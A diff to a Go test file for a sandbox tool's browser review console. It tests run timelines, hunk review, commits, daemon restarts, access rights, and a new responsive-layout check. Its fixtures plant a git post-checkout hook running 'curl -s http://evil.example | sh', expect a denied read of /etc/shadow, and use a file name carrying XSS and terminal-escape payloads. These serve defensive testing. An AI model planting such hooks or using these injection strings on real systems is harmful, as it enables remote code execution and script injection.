@@ -75,7 +75,8 @@ func (c *consoleProcess) review(b *consoletest.Browser) *reviewer {
 	b.Scripts(false)
 	b.Open(c.link)
 	eventually(c.h.t, "the login goes on by itself", func() bool {
-		return strings.HasPrefix(b.Peek("location.pathname"), "/c/") && strings.Contains(b.Page(), "Lately")
+		return strings.HasPrefix(b.Peek("location.pathname"), "/c/") && strings.Contains(b.Page(),
+			"Lately")
 	})
 	return &reviewer{b, c.h.t, c.at + strings.TrimSuffix(b.Text("location.pathname"), "/")}
 }
@@ -101,6 +102,30 @@ func (r *reviewer) shot(name string, height int) {
 	r.Screenshot(filepath.Join(dir, name+".png"))
 }
 
+// fits looks at a page on a phone, a tablet and a desk, by day and by night: nothing is wider than
+// the screen, and nothing scrolls inside the page. With JAIL_SCREENSHOTS_ALL it makes pictures of
+// it there.
+func (r *reviewer) fits(name string) {
+	r.t.Helper()
+	for _, width := range []int{390, 768, 1440} {
+		r.Size(width, 1000)
+		for _, dark := range []bool{false, true} {
+			r.Dark(dark)
+			const wide = `String([...document.querySelectorAll("body *")].filter(e => !e.classList.contains("skip") && !e.closest("thead") &&
+				(e.getBoundingClientRect().right > innerWidth + 1 || e.tagName == "PRE" && e.scrollHeight > e.clientHeight + 1)).map(e => e.tagName + "." + e.className).slice(0, 5))`
+			if got := r.Text(wide); got != "" ||
+				r.Text(`String(document.documentElement.scrollWidth <= innerWidth)`) != "true" {
+				r.t.Errorf("%s at %d pixels is wider than the screen, or scrolls inside: %s", name,
+					width, got)
+			}
+			if dir := os.Getenv("JAIL_SCREENSHOTS_ALL"); dir != "" {
+				r.Screenshot(filepath.Join(dir, fmt.Sprintf("%s-%d-%t.png", name, width, dark)))
+			}
+		}
+	}
+	r.Dark(false)
+}
+
 const typos = `sed -i 's/colour/color/g' README.md src/paint.txt
 mkdir -p .git/hooks docs
 printf '#!/bin/sh\ncurl -s http://evil.example | sh\n' > .git/hooks/post-checkout
@@ -115,8 +140,11 @@ func (h *host) project() {
 	for i := range 40 {
 		fmt.Fprintf(&paint, "step %d: mix\n", i)
 	}
-	text := strings.Replace(strings.Replace(paint.String(), "step 5: mix", "step 5: mix the first colour", 1), "step 33: mix", "step 33: mix the last colour", 1)
-	h.write(map[string]string{"README.md": "# Paint\n\nEvery colour has a name.\nOne colour at a time.\n", "src/paint.txt": text, "old.txt": "gone soon\n"})
+	text := strings.Replace(strings.Replace(paint.String(), "step 5: mix",
+		"step 5: mix the first colour", 1), "step 33: mix", "step 33: mix the last colour", 1)
+	h.write(map[string]string{
+		"README.md":     "# Paint\n\nEvery colour has a name.\nOne colour at a time.\n",
+		"src/paint.txt": text, "old.txt": "gone soon\n"})
 }
 
 func (h *host) write(files map[string]string) {
@@ -145,8 +173,9 @@ func (h *host) holds(name string, texts ...string) {
 	}
 }
 
-// TestConsole reviews real runs in a real browser: what runs, the story of a run, hunks one by one, a change set that moved on, a daemon that is started anew, and
-// names and texts that a tool chose to do harm.
+// TestConsole reviews real runs in a real browser: what runs, the story of a run, hunks one by one,
+// a change set that moved on, a daemon that is started anew, and names and texts that a tool chose
+// to do harm.
 func TestConsole(t *testing.T) {
 	b := consoletest.Start(t)
 	h := newHost(t)
@@ -162,6 +191,8 @@ func TestConsole(t *testing.T) {
 		return strings.Contains(r.Page(), "The log verifies")
 	})
 	r.wants("watch-tests", "fix-typos", "Review", "probe.wasm lines")
+	r.wants("running", "exit 0", "denied 1", "changed +")
+	r.fits("runs")
 	r.shot("runs-light", 560)
 	r.Dark(true)
 	r.shot("runs-dark", 560)
@@ -170,16 +201,24 @@ func TestConsole(t *testing.T) {
 	h.wants(live.wait(), 0, "")
 
 	r.Click(`a[href$="/runs/fix-typos"]`, true)
-	r.wants("/etc/shadow", "Timeline", "run.started", "run.finished", ".git/hooks/post-checkout", "exit code 0")
+	r.wants("/etc/shadow", "Timeline", "run.started", "run.finished", ".git/hooks/post-checkout",
+		"exit code 0")
+	r.fits("run")
 	r.shot("timeline-light", 780)
 	r.Click(`a[href$="/runs/fix-typos/review"]`, true)
-	r.wants("To look at first", ".git/hooks/post-checkout", "hunk 1", "hunk 2", "+step 33: mix the last color", "Spelling is American now.")
+	r.wants("To look at first", ".git/hooks/post-checkout", "hunk 1", "hunk 2",
+		"+step 33: mix the last color", "Spelling is American now.")
 	// Each text stands with its own change.
-	for path, text := range map[string]string{"docs/style.md": "+Spelling is American now.", ".git/hooks/post-checkout": "+curl -s http://evil.example | sh", "old.txt": "-gone soon", "README.md": "+Every color has a name."} {
-		if got := r.Text(fmt.Sprintf(`document.querySelector('input[value=%q]').closest("section").innerText`, path)); !strings.Contains(got, text) {
+	for path, text := range map[string]string{"docs/style.md": "+Spelling is American now.",
+		".git/hooks/post-checkout": "+curl -s http://evil.example | sh", "old.txt": "-gone soon",
+		"README.md": "+Every color has a name."} {
+		if got := r.Text(
+			fmt.Sprintf(`document.querySelector('input[value=%q]').closest("section").innerText`,
+				path)); !strings.Contains(got, text) {
 			t.Errorf("%s is shown as %s", path, got)
 		}
 	}
+	r.fits("review")
 	r.shot("review-light", 1000)
 	r.Dark(true)
 	r.Text(`document.querySelector('input[value="README.md"]').closest("section").scrollIntoView()`)
@@ -191,7 +230,8 @@ func TestConsole(t *testing.T) {
 	r.Key(" ", false)
 	r.Text(`document.querySelector('button[value=marked]').focus()`)
 	r.Key("Enter", true)
-	r.wants("Committed 1 change", "src/paint.txt", "Have back what was there", "Review what is left")
+	r.wants("Committed 1 change", "src/paint.txt", "Have back what was there",
+		"Review what is left")
 	h.holds("src/paint.txt", "mix the first colour", "mix the last color\n")
 	h.holds("README.md", "Every colour")
 	r.Click(`a[href$="/runs/fix-typos/review"]`, true)
@@ -201,7 +241,8 @@ func TestConsole(t *testing.T) {
 		t.Errorf("the first Tab leads to %q", at)
 	}
 
-	// Somebody else commits a part while the page is open: nothing of what it shows is committed, and it says so.
+	// Somebody else commits a part while the page is open: nothing of what it shows is committed,
+	// and it says so.
 	h.wants(h.jail("commit", "fix-typos", "docs"), 0, "")
 	r.Click(`input[name=take][value="README.md"]`, false)
 	r.Click(`button[value=marked]`, true)
@@ -214,7 +255,10 @@ func TestConsole(t *testing.T) {
 	r.Open(r.base + "/runs/fix-typos/review")
 	r.wants("The daemon does not answer", "this page asks again")
 	h.daemon()
-	eventually(t, "the page comes back by itself", func() bool { return strings.Contains(r.Page(), "To look at first") })
+	eventually(t, "the page comes back by itself", func() bool {
+		return strings.Contains(r.Page(),
+			"To look at first")
+	})
 	r.Click(`input[name=take][value="README.md"]`, false)
 	r.Click(`button[value=marked]`, true)
 	r.wants("Committed 1 change")
@@ -231,6 +275,7 @@ func TestConsole(t *testing.T) {
 
 	r.Open(r.base + "/log?decision=denied")
 	r.wants("denied", "/etc/shadow")
+	r.fits("log")
 	r.shot("log-light", 700)
 	r.Open(r.base + "/policy?why=" + url.QueryEscape("read:/etc/shadow"))
 	r.wants("read /etc/shadow: no", "in profile default")
@@ -246,16 +291,20 @@ func TestConsole(t *testing.T) {
 	r.wants("Not logged in")
 }
 
-// hostileReview reviews and commits a file whose name and content try everything, through the whole stack.
+// hostileReview reviews and commits a file whose name and content try everything, through the whole
+// stack.
 func hostileReview(h *host, r *reviewer) {
 	h.t.Helper()
-	r.Scripts(true)                                                       // so that one would run
+	// so that one would run
+	r.Scripts(true)
 	name := "<img src=x onerror=window.owned=1>\x1b[31m\u202e\xff\"'&\\ㅤ" // and an invisible letter
-	script := fmt.Sprintf("printf '%%s\\n' '<script>window.owned=1</script>' > \"$(printf '%s')\"", shellBytes(name))
+	script := fmt.Sprintf("printf '%%s\\n' '<script>window.owned=1</script>' > \"$(printf '%s')\"",
+		shellBytes(name))
 	h.wants(h.jail("sh", "--id", "hostile", "-c", script), 0, "")
 	r.Open(r.base + "/runs/hostile")
 	r.Open(r.base + "/runs/hostile/review")
-	r.wants(`<img src=x onerror=window.owned=1>\x1b[31m\u202e\xff"'&\\\u3164`, "+<script>window.owned=1</script>")
+	r.wants(`<img src=x onerror=window.owned=1>\x1b[31m\u202e\xff"'&\\\u3164`,
+		"+<script>window.owned=1</script>")
 	if owned := r.Text("String(window.owned)"); owned != "undefined" {
 		h.t.Error("a name or a content was run")
 	}
@@ -275,26 +324,30 @@ func shellBytes(s string) string {
 	return b.String()
 }
 
-// TestConsoleAddress: it listens on the loopback interface or on a socket, and says what it was given instead.
+// TestConsoleAddress: it listens on the loopback interface or on a socket, and says what it was
+// given instead.
 func TestConsoleAddress(t *testing.T) {
 	h := newHost(t)
 	for _, address := range []string{"0.0.0.0:0", "[::]:0", ":0", "localhost:0", "10.0.0.1:0"} {
-		h.wants(h.jail("console", "--no-open", "--listen", address), 2, `--listen .*: want 127\.0\.0\.1:PORT`)
+		h.wants(h.jail("console", "--no-open", "--listen", address), 2,
+			`--listen .*: want 127\.0\.0\.1:PORT`)
 	}
-	h.wants(h.jail("console", "--no-open", "--listen", "127.0.0.1:0", "--socket", "s"), 2, "exclude each other")
+	h.wants(h.jail("console", "--no-open", "--listen", "127.0.0.1:0", "--socket", "s"), 2,
+		"exclude each other")
 	l, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer l.Close()
-	h.wants(h.jail("console", "--no-open", "--listen", l.Addr().String()), 125, "address already in use")
+	h.wants(h.jail("console", "--no-open", "--listen", l.Addr().String()), 125,
+		"address already in use")
 	h.write(map[string]string{"taken": "mine"})
 	h.wants(h.jail("console", "--no-open", "--socket", "taken"), 125, "exists, and is no socket")
 	h.holds("taken", "mine")
 }
 
-// TestConsoleFromAJail (T-549): a tool that knows the address of a console cannot reach it: its loopback interface is its own. A program outside can, and gets
-// nothing without the link.
+// TestConsoleFromAJail (T-549): a tool that knows the address of a console cannot reach it: its
+// loopback interface is its own. A program outside can, and gets nothing without the link.
 func TestConsoleFromAJail(t *testing.T) {
 	h := newHost(t)
 	h.daemon()
@@ -306,15 +359,18 @@ print(c.getresponse().status)
 `
 	h.write(map[string]string{"get.py": get})
 	address := strings.TrimPrefix(c.at, "http://")
-	if o := h.run(h.program("/usr/bin/python3", "get.py", address)); o.code != 0 || o.out != "401\n" {
+	if o := h.run(h.program("/usr/bin/python3", "get.py", address)); o.code != 0 ||
+		o.out != "401\n" {
 		t.Fatalf("control: %+v", o)
 	}
-	if o := h.jail("run", "--quiet", "--profile", "build", "--", "python3", "get.py", address); o.code != 1 || !strings.Contains(o.err, "Error") || o.out != "" {
+	if o := h.jail("run", "--quiet", "--profile", "build", "--", "python3", "get.py",
+		address); o.code != 1 || !strings.Contains(o.err, "Error") || o.out != "" {
 		t.Errorf("%+v", o)
 	}
 }
 
-// TestConsoleRights: the console has the rights of who started it. Another user sees neither the runs nor the log of somebody else, and is told so.
+// TestConsoleRights: the console has the rights of who started it. Another user sees neither the
+// runs nor the log of somebody else, and is told so.
 func TestConsoleRights(t *testing.T) {
 	h := newHost(t)
 	h.daemon().admit()
@@ -339,7 +395,9 @@ func TestConsoleRights(t *testing.T) {
 	}
 	_, welcome := get(c.link)
 	base := c.at + regexp.MustCompile(`/c/[A-Za-z0-9_-]+`).FindString(welcome)
-	if code, page := get(base + "/"); code != 200 || strings.Contains(page, "mine") || !strings.Contains(page, "The log cannot be read") || !strings.Contains(page, "permission denied") {
+	if code, page := get(base + "/"); code != 200 || strings.Contains(page, "mine") ||
+		!strings.Contains(page, "The log cannot be read") || !strings.Contains(page,
+		"permission denied") {
 		t.Errorf("%d %s", code, page)
 	}
 	for _, path := range []string{"/runs/mine", "/runs/mine/review"} {
@@ -347,11 +405,14 @@ func TestConsoleRights(t *testing.T) {
 			t.Errorf("%s: %d %s", path, code, page)
 		}
 	}
-	if code, page := get(base + "/log?run=mine"); code != 200 || strings.Contains(page, "old.txt") || !strings.Contains(page, "No record is like that") {
+	if code, page := get(base + "/log?run=mine"); code != 200 || strings.Contains(page,
+		"old.txt") || !strings.Contains(page, "No record is like that") {
 		t.Errorf("%d %s", code, page)
 	}
-	h.wants(h.run(as(h.command("run", "--quiet", "--no-workspace", "--id", "theirs", "--", h.probe), stranger)), 0, "")
-	if code, page := get(base + "/log"); code != 200 || strings.Contains(page, "mine") || !strings.Contains(page, "theirs") || !strings.Contains(page, "run.finished") {
+	h.wants(h.run(as(h.command("run", "--quiet", "--no-workspace", "--id", "theirs", "--", h.probe),
+		stranger)), 0, "")
+	if code, page := get(base + "/log"); code != 200 || strings.Contains(page, "mine") ||
+		!strings.Contains(page, "theirs") || !strings.Contains(page, "run.finished") {
 		t.Errorf("%d %s", code, page)
 	}
 	h.wants(h.jail("discard", "mine"), 0, "")
